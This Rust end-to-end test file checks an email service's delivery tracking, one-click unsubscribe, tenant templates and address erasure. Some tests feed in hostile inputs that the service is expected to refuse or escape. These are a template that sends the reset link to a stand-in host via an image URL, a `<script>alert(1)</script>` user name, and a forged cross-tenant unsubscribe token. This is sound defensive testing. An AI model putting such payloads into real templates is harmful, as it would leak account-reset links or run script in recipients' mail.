//! Email delivery tracking (`GET /v1/emails`, `GET /v1/admin/emails`), one-click
//! unsubscribe (`POST /v1/email/unsubscribe`) and the tenant's templates
//! (`/v1/email-templates`), against the real services and the outbox transport.

use e2e::{
    TestApp, assert_problem,
    auth::{OutboxMessage, PASSWORD, Signup},
    spawn_app,
};
use reqwest::Method;
use serde_json::{Value, json};
use tenancy::TenantId;
use uuid::Uuid;

/// The tenant's email listing as `access` sees it (every page of 100).
async fn emails(app: &TestApp, tenant: &str, access: &str, query: &str) -> Vec<Value> {
    let response = app
        .get_authed(tenant, &format!("/v1/emails?limit=100{query}"), access)
        .await;
    assert_eq!(response.status(), 200, "list emails");
    let body: Value = response.json().await.expect("JSON");
    body["items"].as_array().expect("items").clone()
}

/// The operator's listing.
async fn all_emails(app: &TestApp, key: &str, query: &str) -> Vec<Value> {
    let response = app
        .request(Method::GET, &format!("/v1/admin/emails?limit=100{query}"))
        .bearer_auth(key)
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), 200, "list all emails");
    let body: Value = response.json().await.expect("JSON");
    body["items"].as_array().expect("items").clone()
}

/// The messages of `template` in the outbox to `to`.
fn outbox_of(app: &TestApp, to: &str, template: &str) -> Vec<OutboxMessage> {
    app.outbox()
        .into_iter()
        .filter(|m| m.to == to && m.template == template)
        .collect()
}

fn row<'a>(rows: &'a [Value], template: &str, recipient: &str) -> Option<&'a Value> {
    rows.iter()
        .find(|r| r["template"] == template && r["recipient"] == recipient)
}

/// Enqueues, as the app would, the welcome message and a security notice to `user` of
/// `tenant`.
async fn enqueue_welcome_and_notice(app: &TestApp, tenant: Uuid, user: Uuid) {
    let mut tx = app
        .state
        .tenant_db
        .begin(TenantId(tenant))
        .await
        .expect("tenant tx");
    let user = identity::store::user_by_id(&mut tx, user)
        .await
        .expect("user")
        .expect("exists");
    jobs::enqueue(
        &mut tx,
        identity::link_emails::welcome(&user).expect("welcome"),
    )
    .await
    .expect("enqueue");
    jobs::enqueue(
        &mut tx,
        identity::link_emails::notice(&user, "Something changed.").expect("notice"),
    )
    .await
    .expect("enqueue");
    tx.commit().await.expect("commit");
}

#[tokio::test]
async fn a_message_is_queued_then_sent_once_and_its_outbox_file_names_its_row() {
    let app = spawn_app().await;
    let org = app.signup("mail-track").await;
    let ada = "ada@mail-track.example";
    app.register_verified(&org.slug, ada).await;
    // Verified: the welcome is queued (its job has not run), the verification sent.
    let rows = emails(&app, &org.slug, &org.tokens.access, "").await;
    let welcome = row(&rows, "welcome", ada).expect("a welcome row").clone();
    assert_eq!(welcome["status"], "queued", "{welcome}");
    assert_eq!(welcome["attempts"], 0);
    assert!(welcome.get("tenant_id").is_none(), "{welcome}");
    let verification = row(&rows, "verification", ada).expect("a verification row");
    assert_eq!(verification["status"], "sent", "{verification}");
    assert_eq!(verification["attempts"], 1);
    assert!(outbox_of(&app, ada, "welcome").is_empty());

    app.run_jobs().await;
    let rows = emails(&app, &org.slug, &org.tokens.access, "&template=welcome").await;
    assert!(rows.iter().all(|r| r["template"] == "welcome"), "{rows:?}");
    let sent = row(&rows, "welcome", ada).expect("the welcome row");
    assert_eq!(sent["id"], welcome["id"]);
    assert_eq!(sent["status"], "sent", "{sent}");
    assert_eq!(sent["attempts"], 1);
    assert!(sent["sent_at"].is_string());
    let answer = sent["last_response"].as_str().expect("an answer");
    assert!(answer.starts_with("written to the outbox as "), "{answer}");
    let files = outbox_of(&app, ada, "welcome");
    assert_eq!(files.len(), 1);
    assert_eq!(
        files[0].header("X-Canopy-Message"),
        welcome["id"].as_str(),
        "{}",
        files[0].raw
    );
    // Filters: by status.
    let queued = emails(&app, &org.slug, &org.tokens.access, "&status=queued").await;
    assert!(row(&queued, "welcome", ada).is_none(), "{queued:?}");
    let sent_rows = emails(&app, &org.slug, &org.tokens.access, "&status=sent").await;
    assert!(row(&sent_rows, "welcome", ada).is_some());
    // Newest first.
    let all = emails(&app, &org.slug, &org.tokens.access, "").await;
    let times: Vec<&str> = all
        .iter()
        .map(|r| r["created_at"].as_str().expect("time"))
        .collect();
    let mut sorted = times.clone();
    sorted.sort_unstable_by(|a, b| b.cmp(a));
    assert_eq!(times, sorted);
    // Paging with the cursor visits every row once.
    let first = app
        .get_authed(&org.slug, "/v1/emails?limit=1", &org.tokens.access)
        .await;
    let first: Value = first.json().await.expect("JSON");
    let cursor = first["next_cursor"]
        .as_str()
        .expect("more than one message");
    let second = app
        .get_authed(
            &org.slug,
            &format!("/v1/emails?limit=100&cursor={cursor}"),
            &org.tokens.access,
        )
        .await;
    let second: Value = second.json().await.expect("JSON");
    assert_eq!(
        second["items"].as_array().expect("items").len() + 1,
        all.len()
    );
    let bad = app
        .get_authed(&org.slug, "/v1/emails?cursor=nonsense", &org.tokens.access)
        .await;
    assert_problem(bad, 400, "invalid_parameter").await;
}

#[tokio::test]
async fn a_send_the_server_refuses_keeps_each_error_and_fails_when_its_job_dies() {
    // Nothing listens on port 1: every attempt is refused at once.
    let app = TestApp::builder()
        .env("smtp_url", "smtp://127.0.0.1:1")
        .spawn()
        .await;
    let org = app.signup("mail-fail").await;
    let key = app.admin_key().await;
    let verification = || async {
        let rows = all_emails(&app, &key, &format!("&tenant_id={}", org.tenant_id)).await;
        row(&rows, "verification", &org.owner_email)
            .expect("a verification row")
            .clone()
    };
    // Each round makes the retry due at once and runs it: one attempt per round.
    for attempt in 1..=8 {
        sqlx::query("update public.jobs set run_at = now() where status = 'failed'")
            .execute(app.state.db.pool())
            .await
            .expect("make retries due");
        app.run_jobs().await;
        let row = verification().await;
        assert_eq!(row["attempts"], attempt, "{row}");
        let error = row["last_response"].as_str().expect("the error");
        assert!(error.contains("Connection refused"), "{row}");
        let expected = if attempt < 8 { "queued" } else { "failed" };
        assert_eq!(row["status"], expected, "{row}");
    }
    let verification = verification().await;
    assert!(verification["sent_at"].is_null());
    let job_status: String = sqlx::query_scalar("select status from public.jobs where id = $1")
        .bind(Uuid::parse_str(verification["id"].as_str().expect("id")).expect("uuid"))
        .fetch_one(app.state.db.pool())
        .await
        .expect("the job");
    assert_eq!(job_status, "dead");
}

#[tokio::test]
async fn a_tenant_sees_only_its_own_messages_and_the_operator_sees_every_tenants() {
    let app = spawn_app().await;
    let a = app.signup("mail-a").await;
    let b = app.signup("mail-b").await;
    app.register_verified(&a.slug, "ann@mail-a.example").await;
    app.register_verified(&b.slug, "bob@mail-b.example").await;
    app.run_jobs().await;
    let of_a = emails(&app, &a.slug, &a.tokens.access, "").await;
    let of_b = emails(&app, &b.slug, &b.tokens.access, "").await;
    assert!(row(&of_a, "welcome", "ann@mail-a.example").is_some());
    assert!(row(&of_b, "welcome", "bob@mail-b.example").is_some());
    let ids = |rows: &[Value]| -> Vec<String> {
        rows.iter()
            .map(|r| r["id"].as_str().expect("id").to_owned())
            .collect()
    };
    let (ids_a, ids_b) = (ids(&of_a), ids(&of_b));
    assert!(ids_a.iter().all(|id| !ids_b.contains(id)));
    assert!(
        of_b.iter().all(|r| r["recipient"]
            .as_str()
            .expect("to")
            .ends_with("@mail-b.example")),
        "{of_b:?}"
    );
    // B's token addressing A: refused, A's rows never shown.
    let crossed = app
        .get_authed(&a.slug, "/v1/emails", &b.tokens.access)
        .await;
    assert_problem(crossed, 403, "wrong_tenant").await;
    // The operator: both, each with its tenant; a tenant filter keeps one.
    let key = app.admin_key().await;
    let all = all_emails(&app, &key, "").await;
    for (rows, tenant) in [(&of_a, a.tenant_id), (&of_b, b.tenant_id)] {
        for r in rows {
            let seen = all.iter().find(|x| x["id"] == r["id"]).expect("listed");
            assert_eq!(seen["tenant_id"], tenant.to_string());
            assert_eq!(seen["recipient"], r["recipient"]);
        }
    }
    let only_b = all_emails(&app, &key, &format!("&tenant_id={}", b.tenant_id)).await;
    assert_eq!(ids(&only_b).len(), ids_b.len());
    assert!(ids(&only_b).iter().all(|id| ids_b.contains(id)));
    let no_key = app.get("/v1/admin/emails").await;
    assert_eq!(no_key.status(), 401);
    // A tenant user's token is no operator credential.
    let as_user = app
        .request(Method::GET, "/v1/admin/emails")
        .bearer_auth(&a.tokens.access)
        .send()
        .await
        .expect("request");
    assert_eq!(as_user.status(), 401);
}

#[tokio::test]
async fn recipients_are_masked_for_callers_without_users_read() {
    let app = spawn_app().await;
    let org = app.signup("mail-mask").await;
    let auditor = app
        .create_role_ok(
            &org,
            &json!({"name": "auditor", "permissions": ["audit:read"]}),
        )
        .await;
    let (_, tokens) = app
        .user_with_roles(&org, "jane@mail-mask.example", &[auditor])
        .await;
    app.run_jobs().await;
    let masked = emails(&app, &org.slug, &tokens.access, "").await;
    let welcome = masked
        .iter()
        .find(|r| r["template"] == "welcome")
        .expect("jane's welcome");
    assert_eq!(welcome["recipient"], "j•••@mail-mask.example");
    assert!(
        masked
            .iter()
            .all(|r| r["recipient"].as_str().expect("to").contains("•••@")),
        "{masked:?}"
    );
    let full = emails(&app, &org.slug, &org.tokens.access, "").await;
    assert!(row(&full, "welcome", "jane@mail-mask.example").is_some());
    // Without audit:read, no listing at all.
    let viewer = app.role_id(&org, "viewer").await;
    let (_, plain) = app
        .user_with_roles(&org, "vic@mail-mask.example", &[viewer])
        .await;
    let refused = app.get_authed(&org.slug, "/v1/emails", &plain.access).await;
    assert_problem(refused, 403, "forbidden").await;
}

/// The `token` of a `List-Unsubscribe` header's link, and the link's path and query.
fn unsubscribe_link(message: &OutboxMessage) -> (String, String) {
    let value = message
        .header("List-Unsubscribe")
        .unwrap_or_else(|| panic!("no List-Unsubscribe in {}", message.raw));
    let url = value
        .trim()
        .trim_start_matches('<')
        .split('>')
        .next()
        .expect("a link");
    let url = url::Url::parse(url).expect("a URL");
    assert_eq!(url.path(), "/v1/email/unsubscribe");
    let token = url
        .query_pairs()
        .find(|(k, _)| k == "token")
        .map(|(_, v)| v.into_owned())
        .expect("a token");
    (
        token,
        format!("{}?{}", url.path(), url.query().expect("query")),
    )
}

async fn one_click(app: &TestApp, path_and_query: &str) -> reqwest::Response {
    app.request(Method::POST, path_and_query)
        .header("content-type", "application/x-www-form-urlencoded")
        .body("List-Unsubscribe=One-Click")
        .send()
        .await
        .expect("request")
}

async fn unsubscribe_json(app: &TestApp, token: &str) -> reqwest::Response {
    app.post_json("/v1/email/unsubscribe", &json!({ "token": token }))
        .await
}

#[tokio::test]
async fn one_click_unsubscribe_stops_the_welcome_but_never_a_security_notice() {
    let app = spawn_app().await;
    let org = app.signup("mail-unsub").await;
    let ada = "ada@mail-unsub.example";
    let user = app.register_verified(&org.slug, ada).await;
    app.run_jobs().await;
    let welcome = outbox_of(&app, ada, "welcome");
    assert_eq!(welcome.len(), 1);
    assert_eq!(
        welcome[0].header("List-Unsubscribe-Post"),
        Some("List-Unsubscribe=One-Click")
    );
    let (token, link) = unsubscribe_link(&welcome[0]);
    // Essential mail offers no unsubscribe.
    let verification = outbox_of(&app, ada, "verification");
    assert!(verification[0].header("List-Unsubscribe").is_none());
    assert!(verification[0].header("List-Unsubscribe-Post").is_none());

    // Altered tokens are refused, and change nothing.
    let mut altered = token.clone().into_bytes();
    let last = altered.len() - 1;
    altered[last] = if altered[last] == b'A' { b'B' } else { b'A' };
    let altered = String::from_utf8(altered).expect("ascii");
    assert_problem(
        unsubscribe_json(&app, &altered).await,
        400,
        "unsubscribe_token_invalid",
    )
    .await;
    assert_problem(
        one_click(&app, "/v1/email/unsubscribe").await,
        400,
        "unsubscribe_token_invalid",
    )
    .await;
    assert_problem(
        unsubscribe_json(&app, "u1.bm90.aGVsbG8").await,
        400,
        "unsubscribe_token_invalid",
    )
    .await;
    let unsubscribed = |tenant: Uuid| {
        let app = &app;
        async move {
            app.tenant_sql(
                tenant,
                "update email_unsubscribes set created_at = created_at where user_id = $1",
                Some(user),
            )
            .await
        }
    };
    assert_eq!(unsubscribed(org.tenant_id).await, 0);

    // The one-click post, twice: 204 both times.
    let response = one_click(&app, &link).await;
    assert_eq!(response.status(), 204, "{:?}", response.text().await);
    assert_eq!(one_click(&app, &link).await.status(), 204);
    assert_eq!(unsubscribe_json(&app, &token).await.status(), 204);
    assert_eq!(unsubscribed(org.tenant_id).await, 1);

    enqueue_welcome_and_notice(&app, org.tenant_id, user).await;
    app.run_jobs().await;
    assert_eq!(
        outbox_of(&app, ada, "welcome").len(),
        1,
        "no second welcome"
    );
    let notices = outbox_of(&app, ada, "security_notice");
    assert_eq!(notices.len(), 1, "the notice is sent");
    let rows = emails(&app, &org.slug, &org.tokens.access, "&template=welcome").await;
    let statuses: Vec<&str> = rows
        .iter()
        .map(|r| r["status"].as_str().expect("status"))
        .collect();
    assert_eq!(statuses, ["suppressed", "sent"], "{rows:?}");
    assert_eq!(rows[0]["attempts"], 1);
    assert!(rows[0]["sent_at"].is_null());
}

#[tokio::test]
async fn a_token_of_one_tenant_cannot_change_another_tenants_preferences() {
    let app = spawn_app().await;
    let a = app.signup("unsub-a").await;
    let b = app.signup("unsub-b").await;
    let ann = "ann@unsub-a.example";
    let bob = "bob@unsub-b.example";
    let ann_id = app.register_verified(&a.slug, ann).await;
    let bob_id = app.register_verified(&b.slug, bob).await;
    app.run_jobs().await;
    let (token_a, _) = unsubscribe_link(&outbox_of(&app, ann, "welcome")[0]);
    // A's payload re-pointed at B's tenant and user, A's MAC kept: refused.
    let mut parts = token_a.split('.');
    let (version, _, mac) = (
        parts.next().expect("version"),
        parts.next().expect("payload"),
        parts.next().expect("mac"),
    );
    use base64::Engine;
    let payload = format!("{}:{}:non_essential", b.tenant_id.simple(), bob_id.simple());
    let forged = format!(
        "{version}.{}.{mac}",
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(payload)
    );
    assert_problem(
        unsubscribe_json(&app, &forged).await,
        400,
        "unsubscribe_token_invalid",
    )
    .await;
    // A's token sent as B (subdomain or header): it still names A; B is untouched.
    let response = app
        .request(Method::POST, "/v1/email/unsubscribe")
        .header("x-tenant", &b.slug)
        .json(&json!({ "token": token_a }))
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), 204);
    let count = |tenant: Uuid, user: Uuid| {
        let app = &app;
        async move {
            app.tenant_sql(
                tenant,
                "update email_unsubscribes set created_at = created_at where user_id = $1",
                Some(user),
            )
            .await
        }
    };
    assert_eq!(count(a.tenant_id, ann_id).await, 1);
    assert_eq!(count(b.tenant_id, bob_id).await, 0);
    enqueue_welcome_and_notice(&app, b.tenant_id, bob_id).await;
    app.run_jobs().await;
    assert_eq!(
        outbox_of(&app, bob, "welcome").len(),
        2,
        "B's user still welcomed"
    );
}

async fn put_template(app: &TestApp, org: &Signup, name: &str, body: &Value) -> reqwest::Response {
    app.send_authed(
        Method::PUT,
        &org.slug,
        &format!("/v1/email-templates/{name}"),
        &org.tokens.access,
        Some(body),
    )
    .await
}

/// Registers `email` named `name` in `org` and verifies it (which queues the welcome).
async fn register_named(app: &TestApp, org: &Signup, email: &str, name: &str) {
    app.open_registration_as_owner(&org.slug).await;
    let response = app
        .post_as(
            &org.slug,
            "/v1/auth/register",
            &json!({ "email": email, "password": PASSWORD, "name": name }),
        )
        .await;
    assert_eq!(response.status(), 202);
    let token = app
        .emailed_token(email, "verification")
        .await
        .expect("a verification email");
    let response = app
        .post_as(
            &org.slug,
            "/v1/auth/verify-email",
            &json!({ "token": token }),
        )
        .await;
    assert_eq!(response.status(), 200);
}

#[tokio::test]
async fn a_tenants_template_is_checked_when_saved_escaped_in_html_and_its_own() {
    let app = spawn_app().await;
    let a = app.signup("tpl-a").await;
    let b = app.signup("tpl-b").await;
    // Refused when it does not render: a syntax error, a variable the message lacks.
    let broken = put_template(
        &app,
        &a,
        "welcome",
        &json!({"subject": "Hi", "text": "line one\n{% if %}"}),
    )
    .await;
    let problem = assert_problem(broken, 422, "validation_failed").await;
    assert_eq!(problem["errors"][0]["field"], "text", "{problem}");
    assert_eq!(problem["errors"][0]["code"], "template_error");
    assert!(
        problem["errors"][0]["message"]
            .as_str()
            .expect("message")
            .contains("line 2"),
        "{problem}"
    );
    let unknown = put_template(
        &app,
        &a,
        "welcome",
        &json!({"subject": "Hi {{ password }}", "text": "t"}),
    )
    .await;
    let problem = assert_problem(unknown, 422, "validation_failed").await;
    assert_eq!(problem["errors"][0]["field"], "subject", "{problem}");
    assert_eq!(problem["errors"][0]["code"], "template_error");
    let endless = put_template(
        &app,
        &a,
        "welcome",
        &json!({"subject": "s", "text": "{% for a in range(10000) %}{% for b in range(10000) %}x{% endfor %}{% endfor %}"}),
    )
    .await;
    assert_problem(endless, 422, "validation_failed").await;
    assert_problem(
        put_template(&app, &a, "nonsense", &json!({"subject": "s", "text": "t"})).await,
        404,
        "not_found",
    )
    .await;
    let too_long = put_template(
        &app,
        &a,
        "welcome",
        &json!({"subject": "s".repeat(201), "text": "t"}),
    )
    .await;
    assert_problem(too_long, 422, "validation_failed").await;
    // B's token addressing A's templates.
    let crossed = put_template(
        &app,
        &Signup {
            tokens: b.tokens.clone(),
            ..a.clone()
        },
        "welcome",
        &json!({"subject": "s", "text": "t"}),
    )
    .await;
    assert_problem(crossed, 403, "wrong_tenant").await;

    let saved = put_template(
        &app,
        &a,
        "welcome",
        &json!({
            "subject": "Custom welcome, {{ user_name }}",
            "text": "Hi {{ user_name }}, this is {{ tenant_name }}'s own welcome.",
            "html": "<p>Hi <b>{{ user_name }}</b></p>",
        }),
    )
    .await;
    assert_eq!(saved.status(), 200);
    let listed = app
        .get_authed(&a.slug, "/v1/email-templates", &a.tokens.access)
        .await;
    let listed: Value = listed.json().await.expect("JSON");
    let overridden: Vec<&str> = listed
        .as_array()
        .expect("list")
        .iter()
        .filter(|t| t["overridden"] == true)
        .map(|t| t["name"].as_str().expect("name"))
        .collect();
    assert_eq!(overridden, ["welcome"]);
    let shown = app
        .get_authed(&a.slug, "/v1/email-templates/welcome", &a.tokens.access)
        .await;
    let shown: Value = shown.json().await.expect("JSON");
    assert_eq!(shown["subject"], "Custom welcome, {{ user_name }}");
    assert_eq!(shown["category"], "non_essential");
    let builtin = app
        .get_authed(&b.slug, "/v1/email-templates/welcome", &b.tokens.access)
        .await;
    let builtin: Value = builtin.json().await.expect("JSON");
    assert_eq!(builtin["overridden"], false);
    assert_eq!(builtin["subject"], "Welcome to {{ tenant_name }}");

    let script = "<script>alert(1)</script>";
    register_named(&app, &a, "eve@tpl-a.example", script).await;
    register_named(&app, &b, "eve@tpl-b.example", script).await;
    app.run_jobs().await;
    let mine = &outbox_of(&app, "eve@tpl-a.example", "welcome")[0];
    assert_eq!(
        mine.message["subject"],
        format!("Custom welcome, {script}"),
        "{}",
        mine.raw
    );
    assert_eq!(
        mine.message["text"].as_str().expect("text").trim_end(),
        format!("Hi {script}, this is Org tpl-a's own welcome."),
        "{}",
        mine.message
    );
    assert!(
        mine.html.contains("<p>Hi <b>&lt;script&gt;"),
        "{}",
        mine.html
    );
    assert!(!mine.html.contains("<script>"), "{}", mine.html);
    // B's mail is B's: the built-in welcome.
    let theirs = &outbox_of(&app, "eve@tpl-b.example", "welcome")[0];
    assert!(
        theirs.message["subject"]
            .as_str()
            .expect("subject")
            .starts_with("Welcome to "),
        "{}",
        theirs.message
    );
    assert!(
        !theirs.message["text"]
            .as_str()
            .expect("text")
            .contains("own welcome")
    );

    // Deleted: the built-in one again.
    let deleted = app
        .send_authed(
            Method::DELETE,
            &a.slug,
            "/v1/email-templates/welcome",
            &a.tokens.access,
            None,
        )
        .await;
    assert_eq!(deleted.status(), 204);
    let shown = app
        .get_authed(&a.slug, "/v1/email-templates/welcome", &a.tokens.access)
        .await;
    let shown: Value = shown.json().await.expect("JSON");
    assert_eq!(shown["overridden"], false);
    assert_eq!(
        app.audit_events(a.tenant_id, "email_template.updated")
            .await
            .len(),
        1
    );
    assert_eq!(
        app.audit_events(a.tenant_id, "email_template.deleted")
            .await
            .len(),
        1
    );
}

#[tokio::test]
async fn an_override_of_a_secret_mail_never_holds_its_link_and_the_platform_adds_it_once() {
    let app = spawn_app().await;
    let org = app.signup("tpl-secret").await;
    // The link is the platform's: an override naming it is refused, whatever the part.
    let steal = put_template(
        &app,
        &org,
        "password_reset",
        &json!({
            "subject": "Reset",
            "text": "t",
            "html": "<img src=\"https://evil.example/?t={{ link|e }}\">",
        }),
    )
    .await;
    let problem = assert_problem(steal, 422, "validation_failed").await;
    assert_eq!(problem["errors"][0]["field"], "html", "{problem}");
    assert_eq!(problem["errors"][0]["code"], "template_error");
    assert!(
        problem["errors"][0]["message"]
            .as_str()
            .expect("message")
            .contains("the platform adds the link"),
        "{problem}"
    );
    let listed: Value = app
        .get_authed(
            &org.slug,
            "/v1/email-templates/password_reset",
            &org.tokens.access,
        )
        .await
        .json()
        .await
        .expect("JSON");
    assert!(
        !listed["variables"]
            .as_array()
            .expect("variables")
            .iter()
            .any(|v| v["name"] == "link"),
        "{listed}"
    );
    for (name, text) in [
        ("password_reset", "Our own reset words for {{ user_name }}."),
        ("security_notice", "Our own notice, nothing more."),
    ] {
        let saved = put_template(
            &app,
            &org,
            name,
            &json!({"subject": "Ours: {{ tenant_name }}", "text": text}),
        )
        .await;
        assert_eq!(saved.status(), 200, "{name}");
    }

    app.post_as(
        &org.slug,
        "/v1/auth/forgot-password",
        &json!({"email": org.owner_email}),
    )
    .await;
    app.run_jobs().await;
    let mail = &outbox_of(&app, &org.owner_email, "password_reset")[0];
    let text = mail.message["text"].as_str().expect("text");
    assert!(text.starts_with("Our own reset words for "), "{text}");
    assert_eq!(
        mail.message["subject"], "Ours: Org tpl-secret",
        "{}",
        mail.raw
    );
    let link = mail.message["link"].as_str().expect("a link");
    assert_eq!(text.matches(link).count(), 1, "{text}");
    let token = app
        .emailed_token(&org.owner_email, "password_reset")
        .await
        .expect("a token");
    assert_eq!(
        mail.html.matches(token.as_str()).count(),
        1,
        "{}",
        mail.html
    );
    let reset = json!({"token": token, "password": "a brand new passphrase"});
    let response = app
        .post_as(&org.slug, "/v1/auth/reset-password", &reset)
        .await;
    assert_eq!(response.status(), 204, "the platform's link works");

    // The notice's event is the platform's sentence, whatever the override says.
    app.run_jobs().await;
    let notice = &outbox_of(&app, &org.owner_email, "security_notice")[0];
    let text = notice.message["text"].as_str().expect("text");
    assert!(text.starts_with("Our own notice, nothing more."), "{text}");
    assert!(text.contains("Security notice: "), "{text}");
    assert!(notice.html.contains("Security notice:"), "{}", notice.html);
}

#[tokio::test]
async fn a_message_queued_for_a_user_deleted_since_is_suppressed() {
    let app = spawn_app().await;
    let org = app.signup("mail-deleted").await;
    let user = org.owner_id;
    enqueue_welcome_and_notice(&app, org.tenant_id, user).await;
    let mut tx = app
        .state
        .tenant_db
        .begin(TenantId(org.tenant_id))
        .await
        .expect("tenant tx");
    sqlx::query("update users set status = 'deleted' where id = $1")
        .bind(user)
        .execute(&mut *tx)
        .await
        .expect("delete");
    tx.commit().await.expect("commit");
    app.run_jobs().await;
    for template in ["welcome", "security_notice"] {
        assert!(
            outbox_of(&app, &org.owner_email, template).is_empty(),
            "{template}"
        );
    }
    let key = app.admin_key().await;
    let rows = all_emails(&app, &key, &format!("&tenant_id={}", org.tenant_id)).await;
    let welcome = row(&rows, "welcome", &org.owner_email).expect("a welcome row");
    assert_eq!(welcome["status"], "suppressed", "{welcome}");
}

/// `tenant`'s `email.send` jobs (any status) whose payload names `address`.
async fn send_jobs_to(app: &TestApp, tenant: Uuid, address: &str) -> i64 {
    sqlx::query_scalar(
        "select count(*) from public.jobs
         where tenant_id = $1 and kind = 'email.send' and payload->>'to' = $2",
    )
    .bind(tenant)
    .bind(address)
    .fetch_one(app.state.db.pool())
    .await
    .expect("count jobs")
}

#[tokio::test]
async fn deleting_a_user_erases_their_address_from_the_delivery_records_of_their_tenant_only() {
    let app = spawn_app().await;
    let key = app.admin_key().await;
    let a = app.signup("mail-erase-a").await;
    let b = app.signup("mail-erase-b").await;
    // The same person in two tenants.
    let email = "leaving@erase.example";
    let viewer_a = app.role_id(&a, "viewer").await;
    let viewer_b = app.role_id(&b, "viewer").await;
    let (gone, _) = app.user_with_roles(&a, email, &[viewer_a]).await;
    let (stays, _) = app.user_with_roles(&b, email, &[viewer_b]).await;
    // Sent mail (their verification, a's welcome), and mail still queued in both tenants.
    enqueue_welcome_and_notice(&app, a.tenant_id, gone).await;
    enqueue_welcome_and_notice(&app, b.tenant_id, stays).await;
    let of_a = format!("&tenant_id={}", a.tenant_id);
    let of_b = format!("&tenant_id={}", b.tenant_id);
    let before = all_emails(&app, &key, &of_a).await;
    let statuses = |rows: &[Value], to: &str| -> Vec<String> {
        let mut found: Vec<String> = rows
            .iter()
            .filter(|r| r["template"] == "welcome" && r["recipient"] == to)
            .map(|r| r["status"].as_str().unwrap().to_owned())
            .collect();
        found.sort();
        found
    };
    assert_eq!(statuses(&before, email), ["queued", "sent"], "{before:?}");
    assert!(send_jobs_to(&app, a.tenant_id, email).await >= 2);
    let b_jobs = send_jobs_to(&app, b.tenant_id, email).await;
    let b_rows = all_emails(&app, &key, &of_b).await;
    let sent_before: Vec<Uuid> = app.outbox().iter().map(|m| m.job).collect();
    // A reset link asked for by address, not sent yet; and a notice a worker is sending.
    let forgot = app
        .post_as(
            &a.slug,
            "/v1/auth/forgot-password",
            &json!({"email": email}),
        )
        .await;
    assert_eq!(forgot.status(), 202);
    let control = app.state.db.pool();
    let link_jobs = || async {
        sqlx::query_scalar::<_, i64>(
            "select count(*) from public.jobs where tenant_id = $1 and payload->>'email' = $2",
        )
        .bind(a.tenant_id)
        .bind(email)
        .fetch_one(control)
        .await
        .expect("count link jobs")
    };
    assert_eq!(
        link_jobs().await,
        1,
        "the reset link's job names the address"
    );
    let running: Uuid = sqlx::query_scalar(
        "update public.jobs set status = 'running', attempts = 1, locked_by = 'test',
                lease_expires_at = now() + interval '1 hour'
         where id = (select id from public.jobs
                     where tenant_id = $1 and kind = 'email.send' and status = 'queued'
                       and payload->>'template' = 'security_notice' and payload->>'to' = $2)
         returning id",
    )
    .bind(a.tenant_id)
    .bind(email)
    .fetch_one(control)
    .await
    .expect("a notice made running");

    let deleted = app
        .send_authed(
            Method::DELETE,
            &a.slug,
            &format!("/v1/users/{gone}"),
            &a.tokens.access,
            None,
        )
        .await;
    assert_eq!(deleted.status(), 204);

    // In their tenant: no record names the address any more, and the queued mail is
    // dropped (recorded as suppressed; no job holds the address).
    let after = all_emails(&app, &key, &of_a).await;
    assert!(
        !serde_json::to_string(&after).unwrap().contains(email),
        "{after:?}"
    );
    assert_eq!(after.len(), before.len(), "the records stay");
    assert_eq!(
        statuses(&after, "(erased)"),
        ["sent", "suppressed"],
        "{after:?}"
    );
    assert_eq!(send_jobs_to(&app, a.tenant_id, email).await, 0);
    assert_eq!(
        link_jobs().await,
        0,
        "the reset asked for by address is gone"
    );
    // The running one keeps only the marker; retried, it goes nowhere and stays erased.
    let payload: Value = sqlx::query_scalar("select payload from public.jobs where id = $1")
        .bind(running)
        .fetch_one(control)
        .await
        .expect("the running job");
    assert_eq!(payload["to"], "(erased)", "{payload}");
    sqlx::query(
        "update public.jobs set status = 'failed', locked_by = null, lease_expires_at = null,
                run_at = now() where id = $1",
    )
    .bind(running)
    .execute(control)
    .await
    .expect("retry");
    // The other tenant's records and mail are its own, untouched, and still go out.
    assert_eq!(all_emails(&app, &key, &of_b).await, b_rows);
    assert_eq!(send_jobs_to(&app, b.tenant_id, email).await, b_jobs);
    app.run_jobs().await;
    let sent_now: Vec<Uuid> = app
        .outbox()
        .iter()
        .filter(|m| m.to == email && !sent_before.contains(&m.job))
        .map(|m| m.job)
        .collect();
    let of_b_jobs: i64 = sqlx::query_scalar(
        "select count(*) from public.jobs where id = any($1) and tenant_id = $2",
    )
    .bind(&sent_now)
    .bind(b.tenant_id)
    .fetch_one(app.state.db.pool())
    .await
    .expect("count");
    assert!(!sent_now.is_empty());
    assert_eq!(of_b_jobs, sent_now.len() as i64, "only b's mail went out");
    assert!(app.outbox().iter().all(|m| m.job != running));
    let retried = all_emails(&app, &key, &of_a).await;
    let notice = retried
        .iter()
        .find(|r| r["id"] == running.to_string())
        .expect("the retried notice's record");
    assert_eq!(notice["recipient"], "(erased)", "{notice}");
    assert_eq!(notice["status"], "suppressed", "{notice}");

    // Only a tenant's own transaction may call the eraser (which reaches that tenant only).
    let outside: Result<i32, sqlx::Error> =
        sqlx::query_scalar("select shared.erase_email_records($1, array[$2])")
            .bind(stays)
            .bind(email)
            .fetch_one(app.state.db.pool())
            .await;
    let error = outside.expect_err("refused outside a tenant");
    assert!(error.to_string().contains("only a tenant"), "{error}");
    let other = all_emails(&app, &key, &of_b).await;
    assert!(statuses(&other, email).len() >= 2, "{other:?}");
}
